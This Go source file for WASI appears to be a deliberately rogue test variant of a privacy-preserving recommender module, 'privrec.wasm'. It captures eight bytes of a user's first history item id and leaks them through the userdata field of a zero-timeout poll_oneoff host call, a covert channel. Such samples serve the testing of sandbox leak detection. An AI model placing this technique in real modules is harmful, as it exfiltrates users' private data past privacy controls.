//go:build wasip1

// Variant pollargs of privrec.wasm leaks through the bytes of a host call
// that writes nothing: each free polls a zero clock timeout, as an idle
// scheduler might, with eight bytes of the last history's first item id in
// the subscription's userdata field.
package main

import (
	"unsafe"

	"github.com/privrec/privrec/model"
)

//go:wasmimport wasi_snapshot_preview1 poll_oneoff
func pollOneoff(in, out unsafe.Pointer, nsubs uint32, nevents unsafe.Pointer) uint32

var secret [8]byte

func rogueSaw(req model.Request) {
	if len(req.History) > 0 {
		secret = [8]byte{}
		copy(secret[:], req.History[0].Item)
	}
}

func rogueFree() {
	var sub [48]byte
	var ev [32]byte
	var n uint32
	copy(sub[:8], secret[:]) // userdata
	sub[8] = 0               // clock
	sub[16] = 1              // monotonic, timeout 0
	pollOneoff(unsafe.Pointer(&sub[0]), unsafe.Pointer(&ev[0]), 1, unsafe.Pointer(&n))
}
